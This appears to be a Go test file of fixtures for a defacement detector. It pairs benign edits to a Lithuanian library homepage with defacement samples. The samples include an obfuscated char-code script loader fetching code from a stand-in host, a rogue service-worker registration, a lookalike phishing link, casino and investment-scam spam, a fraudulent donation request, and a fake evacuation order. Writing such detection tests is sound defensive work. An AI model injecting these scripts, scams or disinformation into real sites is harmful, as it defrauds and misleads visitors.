package content_test

import "strings"

// What a ninth set taught: 60 edits and 50 defacements of twenty pages of eleven makes,
// by somebody who had seen neither the rules nor the other sets. These are its marks, put
// on a page of the sixth.
//
// The last edits, and titles, are of a tenth: 50 edits and 30 defacements of twelve pages,
// by another one who had seen neither; headlines of an eleventh stand in headlines_test.go.
func ninthEdits() []edit {
	const at = `<section class="hours">`
	news := func(text string) func(string) string { return change(at, "<h3>"+text+at) }
	return []edit{
		{"pills from the Internet", news(`Vaistai iš interneto – pavojinga loterija</h3><p>Internete siūlomi „Viagra“, „Cialis“, tramadolis, ksanaksas ar lieknėjimo tabletės be recepto (angl. buy cheap pills online no prescription) dažniausiai yra klastotės.</p>`)},
		{"gambling", news(`Kazino, lažybos: kada žaidimas tampa liga?</h3><p>Sporto lažybos internetu gali sukelti priklausomybę. Apribokite save nelošiančiųjų registre. Greitieji kreditai lošimams – kelias į skolų duobę. <a href="https://nelosk.heritage-rivers.org/">Pagalba</a></p>`)},
		{"an attack that is over", news(`Svetainė patyrė kibernetinę ataką</h3><p>Prorusiška programišių grupuotė paskelbė nulaužusi portalą ir reikalavo išpirkos. Duomenys nenutekėjo. Nacionalinis kibernetinio saugumo centras informuotas, paslaugos atkurtos.</p>`)},
		{"a fairy tale", news(`Lėlių spektaklis „Mergaitė ir karvė“</h3><p>Mokytoja ir kiaulė, direktorius ir karvė – žaidimas vaikams.</p>`)},
		{"support from one's own account", change(`AB SEB bankas.`, `AB SEB bankas. Pervesti galima ir iš asmeninės sąskaitos.`)},
		{"another menu, with other words", change(`<a href="/index.php/krastotyra">Kraštotyra</a>`, `<a href="https://krastas.heritage-rivers.org/">Krašto paveldas</a>`,
			`<a href="/index.php/filialai">Kaimo filialai</a>`, `<a href="https://filialai.heritage-rivers.net/">Visi filialai</a>`, `<a href="/index.php/paslaugos">Paslaugos</a>`, `<a href="https://www.ibiblioteka.lt/">Ką siūlome</a>`)},
		{"a worker of its own, and a poster", change(`</body>`, `<script>navigator.serviceWorker.register("/OneSignalSDKWorker.js?v=2")</script><img src="/images/fonas.jpg" style="position:fixed;inset:0;width:100%;height:100%;z-index:-1" alt=""></body>`)},
		{"errors before the page", func(p string) string {
			return strings.Repeat("<br />\n<b>Warning</b>:  Creating default object from empty value in <b>/srv/www/frontpage.php</b> on line <b>142</b><br />\n", 12) + p
		}},
		{"the beginning of the page", func(p string) string { return p[:strings.Index(p, "Skaityklą papildė")] }},
		{"no database", whole(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Duomenų bazės klaida</title></head><body><h1>Klaida jungiantis prie duomenų bazės</h1></body></html>`)},
		{"harsh titles", news(`Monospektaklis „Kekšė, kuri bijojo Dievo“</h3><h3>Kinas: „Visi mirs“, „Kill Bill“</h3><p>Nakties seansas.</p>`)},
		{"a picture of a lesson", news(`„Hacked by Anonymous“: septintokų plakatų paroda</h3><img src="/images/hacked-by-anonymous-septintoku.jpg" alt="">`)},
		{"tables, bought tickets, name days", change(`</body>`, `<script src="https://cdn.datatables.net/2.1.8/js/dataTables.min.js"></script><script src="https://www.bilietai.lt/w.js"></script><script src="https://day.lt/vardadieniai.js"></script></body>`)},
		{"scripts from nearby", change(`</body>`, `<script src="https://orai.paezeriai-tic.lt/w.js"></script><script src="https://skaitliukas.serveriai-a.lt/c.js"></script><script src="https://afisa.kulturos-b.lt/a.js"></script></body>`)},
		{"a line that costs", change(at, `<p>Pagalbos linija 8 900 12345, registratūra +370 5 250 5050.</p>`+at)},
	}
}

func ninthDefacements() []edit {
	const at = `<section class="hours">`
	return []edit{
		{"a picture over all", change(`</body>`, `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" style="position:fixed;left:0;top:0;width:100vw;height:100vh;z-index:2147483647" alt=""></body>`)},
		{"a headline", change(`<h2>Naujienos</h2>`, `<h1>Jūsų saugumas – juokas. Grįšim.</h1>`)},
		{"what networks show of the page", change(`<title>`, `<meta property="og:title" content="Geriausias kazino 2027 – 200 nemokamų sukimų"><meta property="og:description" content="Gauk 500 € premiją be depozito"><title>`)},
		{"a shop of shoes", change(`<title>Paežerių viešoji biblioteka - Pradžia`, `<title>Nike Air Max Outlet – Cheap Sneakers Sale 70% OFF`)},
		{"how to be rich", change(at, `<h3>Kaip biuro darbuotoja per mėnesį uždirbo 6 400 eurų iš namų</h3><p>Paprasta investavimo platforma jau padėjo tūkstančiams, pelną gausite kas savaitę. <a href="https://baltic-profit-ai.top/?ref=x">Registruokitės čia</a></p>`+at)},
		{"a stranger's worker", change(`</body>`, `<script>navigator.serviceWorker&&navigator.serviceWorker.register("/sw-push.js?u=https://push.allow-notify.top/w.js")</script></body>`)},
		{"a number that costs, and mail of anybody", change(cut(`+37034300123`, `</a>`), `+37090012345">+370 900 12345</a>`, cut(`mailto:`, `</a>`), `mailto:paezeriai.biblioteka@gmail.com">paezeriai.biblioteka@gmail.com</a>`)},
		{"a diary seen from afar", change(`https://www.epaslaugos.lt/`, `https://www.epasiaugos-lt.top/`)},
		{"a menu of strangers", change(`"/index.php/krastotyra"`, `"https://greitpinigiai.top/lt"`, `"/index.php/filialai"`, `"https://event-bet.com/"`, `"/index.php/paslaugos"`, `"https://kids-toyz-sale.com/"`)},
		{"help for a girl", change(at, `<p>Mūsų skaitytojai skubiai reikia operacijos. Prašome pervesti bent 20 eurų į asmeninę sąskaitą LT57 3500 0100 9988 1234 (gavėjas M. Petrov) arba USDT.</p>`+at)},
		{"an order to everybody", change(at, `<h3>Dėl evakuacijos iš rajono</h3><p>Vyrai nuo 18 iki 55 metų privalo per 24 valandas atvykti į aikštę. NATO pajėgos traukiasi, Vyriausybė perkeliama į Varšuvą, priešintis beprasmiška.</p>`+at)},
		{"letters as numbers", change(`</body>`, `<script>var n=[104,116,116,112,115,58,47,47,115,46,101,120,97,47,97,46,106,115];(function(){var u="";for(var i=0;i<n.length;i++)u+=String.fromCharCode(n[i]);var e=document.createElement("script");e.src=u;document.head.appendChild(e)})()</script></body>`)},
		{"owned, says the title", change(`<title>`, `<title>0wned by XaiR-Zone | `)},
		{"an essay", change(`Įėjimas laisvas.`, `Įėjimas laisvas. <a href="https://write-my-essay-4you.com/">Plačiau</a>`)},
		{"an insult", change(`Įėjimas laisvas.`, `Įėjimas laisvas. Mūsų direktorė – durna karvė, vagianti pinigus.`)},
	}
}
